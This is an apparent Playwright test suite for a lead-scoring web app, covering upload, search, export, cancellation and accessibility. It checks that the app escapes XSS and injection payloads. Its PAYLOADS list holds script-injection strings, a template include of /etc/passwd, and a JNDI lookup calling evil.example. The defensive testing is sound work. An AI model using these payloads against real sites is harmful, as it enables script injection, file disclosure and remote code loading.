"""The page as people meet it, in headless Chromium."""

import re
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from ml.contract.names import Kind
from tests.support import web

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "</td></tr></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "${jndi:ldap://evil.example/a}",
    "<img src=x:x onerror=alert(1)//",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(1)>",
)

#: What no cell can bring onto a page.
INERT = "main img, main iframe, main script, main [autofocus], main math, main [hx-on]"


@pytest.fixture
def alerts(page: Page) -> list[str]:
    """Everything that should not happen on a page."""
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(str(error)))
    page.on("console", lambda said: seen.append(said.text) if said.type == "error" else None)
    return seen


@pytest.fixture
def leads(tmp_path: Path) -> Path:
    """A file of 60 leads, two of which need attention."""
    rows = [web.lead_row(number) for number in range(60)]
    rows[5]["TotalVisits"], rows[6]["Do Not Email"] = "-1", "oui"
    file = tmp_path / "october.csv"
    file.write_bytes(web.csv_of(rows))
    return file


def test_from_upload_to_download(page: Page, url: str, alerts: list[str], leads: Path):
    page.goto(url)
    page.set_input_files("#file", leads)
    expect(page.get_by_role("heading", level=1)).to_have_text("58 scored, 2 need attention")

    def first() -> str | None:
        return page.locator("tbody th").first.text_content()

    best = first()
    page.get_by_role("link", name="Score", exact=True).last.click()
    page.wait_for_url(re.compile("order=asc"))
    expect(page.locator("th[aria-sort]")).to_have_attribute("aria-sort", "ascending")
    assert first() != best

    page.get_by_role("searchbox").fill("lead-0042")
    expect(page.locator("tbody tr")).to_have_count(1)
    expect(page.get_by_role("status")).to_have_text("1 to 1 of 1")
    score = int(page.locator(".score").first.text_content() or "")
    expect(page.locator(".interval").first).to_have_text(f"{score - 5}-{score + 5}")
    page.locator("summary").first.click()
    expect(page.locator(".reasons").first).to_be_visible()

    page.get_by_role("link", name="Needs attention").click()
    expect(page.locator("tbody tr")).to_have_count(2)
    expect(page.locator("tbody tr").first).to_contain_text("NEGATIVE")

    with page.expect_download() as download:
        page.get_by_role("link", name="Download CSV").click()
    assert download.value.suggested_filename == "october-scored.csv"
    assert download.value.path().read_bytes().count(b"\n") == 61
    assert alerts == []


def test_a_thumb_says_whether_a_score_seems_right(page: Page, url: str, tmp_path: Path):
    file = tmp_path / "thumbs.csv"
    file.write_bytes(web.csv_of([web.lead_row(number) for number in range(800, 803)]))
    page.goto(url)
    page.set_input_files("#file", file)
    expect(page.get_by_role("heading", level=1)).to_have_text("3 scored")
    page.locator("summary").first.click()
    page.get_by_role("button", name=re.compile("^No.*lead-080")).first.click()
    expect(page.locator(".said li")).to_have_count(1)


def test_progress_is_seen_and_a_job_is_cancelled(page: Page, url: str, alerts: list[str], tmp_path):
    file = tmp_path / "slow.csv"
    file.write_bytes(web.csv_of([web.lead_row(n, country="0.5") for n in range(900, 1000)]))
    page.goto(url)
    page.set_input_files("#file", file)
    expect(page.get_by_role("heading", level=1)).to_have_text("Scoring your file")
    expect(page.get_by_role("status")).to_contain_text("of 100 scored")
    expect(page.get_by_role("progressbar")).to_have_js_property("max", 100)
    page.get_by_role("link", name="All jobs").click()
    expect(page.get_by_role("row", name="slow.csv")).to_contain_text("Running")
    page.get_by_role("button", name="Cancel slow.csv").click()
    expect(page.get_by_role("row", name="slow.csv")).to_contain_text("Cancelled")
    page.get_by_role("link", name="slow.csv").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Cancelled")
    assert alerts == []


def test_a_dropped_file_is_scored(page: Page, url: str, alerts: list[str]):
    page.goto(url)
    page.evaluate(
        """text => {
          const files = new DataTransfer();
          files.items.add(new File([text], "dropped.csv", {type: "text/csv"}));
          document.querySelector(".drop").dispatchEvent(
            new DragEvent("drop", {dataTransfer: files, bubbles: true, cancelable: true}));
        }""",
        web.csv_of([web.lead_row(number) for number in range(700, 740)]).decode(),
    )
    expect(page.get_by_role("heading", level=1)).to_have_text("40 scored")
    expect(page.locator(".file-name")).to_have_text("dropped.csv")
    assert alerts == []


def test_the_sample_is_one_click_away(page: Page, url: str):
    page.goto(url)
    page.get_by_role("button", name="sample").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("40 scored")


def test_a_refused_file_says_so_in_place(page: Page, url: str, tmp_path: Path):
    (tmp_path / "shoes.csv").write_text("a,b\n1,2\n")
    page.goto(url)
    page.set_input_files("#file", tmp_path / "shoes.csv")
    expect(page.get_by_role("heading", level=1)).to_have_text("The file cannot be read as leads")
    expect(page.locator(".faults li")).to_contain_text("MISSING_COLUMN")
    page.get_by_role("link", name="Choose another file").click()
    expect(page.locator("#file")).to_be_attached()


def test_a_file_that_is_too_large_never_travels(page: Page, url: str, tmp_path: Path):
    (tmp_path / "big.csv").write_bytes(b"x" * 1_000_001)
    page.goto(url)
    page.set_input_files("#file", tmp_path / "big.csv")
    expect(page.locator("#upload-status")).to_contain_text("larger than 1 MB")


def test_it_works_without_scripts(browser: Browser, url: str, leads: Path):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(url)
    page.set_input_files("#file", leads)
    page.get_by_role("button", name="Score the file").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("58 scored, 2 need attention")
    page.get_by_role("link", name="Found us through").click()
    assert "sort=lead_source" in page.url
    page.get_by_role("link", name="Next").click()
    expect(page.locator("tbody tr")).to_have_count(8)
    context.close()


@pytest.mark.parametrize("columns", ["words", "all"])
def test_what_a_lead_says_is_never_run(
    page: Page, url: str, alerts: list[str], tmp_path: Path, columns: str
):
    words = [c for c in web.USE_CASE.schema.columns if c.kind in {Kind.CATEGORY, Kind.TEXT}]
    usual = web.lead_row(1)
    hostile = usual if columns == "all" else {c.source for c in words} & usual.keys()
    rows = [usual | dict.fromkeys(hostile, text) for text in PAYLOADS]
    for row, text in zip(rows, PAYLOADS, strict=True):
        row["Prospect ID"] = text
    file = tmp_path / "<img src=x onerror=alert(1)>.csv"
    file.write_bytes(web.csv_of(rows))
    page.goto(url)
    page.set_input_files("#file", file)
    expect(page.get_by_role("heading", level=1)).to_contain_text(re.compile("^20 scored|20 need"))
    result = page.url.split("?")[0]
    query = "?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
    lists = (result, f"{result}?tab=needs_attention", result + query, f"{url}/jobs")
    leads = [f"{url}/leads/{quote(text, safe='')}" for text in PAYLOADS if columns == "words"]
    for address in (*lists, f"{url}/worklist?capacity=60", *leads):
        answer = page.goto(address)
        assert answer
        assert answer.ok, address
        assert page.locator(INERT).count() == 0, address
    assert alerts == []
    for export in (f"{result}/leads.csv", f"{result}/leads.csv?excel=1", f"{url}/worklist.csv"):
        taken = httpx.get(export, trust_env=False)
        assert taken.headers["content-disposition"].startswith("attachment")
        assert taken.headers["content-type"].startswith("text/csv")
        assert taken.headers["x-content-type-options"] == "nosniff"


def test_headers_of_a_hostile_file_are_never_run(
    page: Page, url: str, alerts: list[str], tmp_path: Path
):
    file = tmp_path / "x.csv"
    file.write_text("\n".join([",".join(web.HEADER[:-1]) + ",<script>alert(1)</script>", "1"]))
    page.goto(url)
    page.set_input_files("#file", file)
    expect(page.get_by_role("heading", level=1)).to_contain_text("cannot be read")
    assert alerts == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_light_and_dark_wide_and_narrow(browser: Browser, url: str, scheme, width):
    page = browser.new_page(color_scheme=scheme, viewport={"width": width, "height": 800})
    page.goto(url)
    page.get_by_role("button", name="sample").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("40 scored")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
    red = int(re.findall(r"\d+", ground)[0])
    assert (red < 60) == (scheme == "dark")
    for low in page.evaluate(CONTRASTS):
        assert low["ratio"] >= 4.5, low
    page.close()


#: WCAG 2 contrast of every text on the page with the first opaque ground behind it.
CONTRASTS = """() => {
  const canvas = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
  const rgba = color => {
    canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = color; canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const ground = node => {
    for (; node; node = node.parentElement) {
      const color = rgba(getComputedStyle(node).backgroundColor);
      if (color[3] === 255) return color;
    }
    return [255, 255, 255, 255];
  };
  const texts = [...document.querySelectorAll("body *")].filter(node =>
    [...node.childNodes].some(child => child.nodeType === 3 && child.textContent.trim()) &&
    node.checkVisibility() && !node.closest("svg"));
  return texts.map(node => {
    const pair = [light(rgba(getComputedStyle(node).color)), light(ground(node))];
    const [a, b] = pair.sort((x, y) => y - x);
    return {text: node.textContent.trim().slice(0, 30), ratio: (a + 0.05) / (b + 0.05)};
  });
}"""


def test_what_a_screen_reader_needs_is_there(page: Page, url: str):
    page.goto(url)
    assert page.evaluate("document.documentElement.lang") == "en"
    page.get_by_role("button", name="sample").click()
    expect(page.get_by_role("table", name="Scored leads")).to_be_visible()
    assert page.evaluate("document.querySelectorAll('h1').length") == 1
    unnamed = page.evaluate(
        """() => [...document.querySelectorAll("a, button, input:not([type=hidden]), select")]
             .filter(n => !(n.textContent.trim() || n.ariaLabel || n.labels?.length)).length"""
    )
    assert unnamed == 0
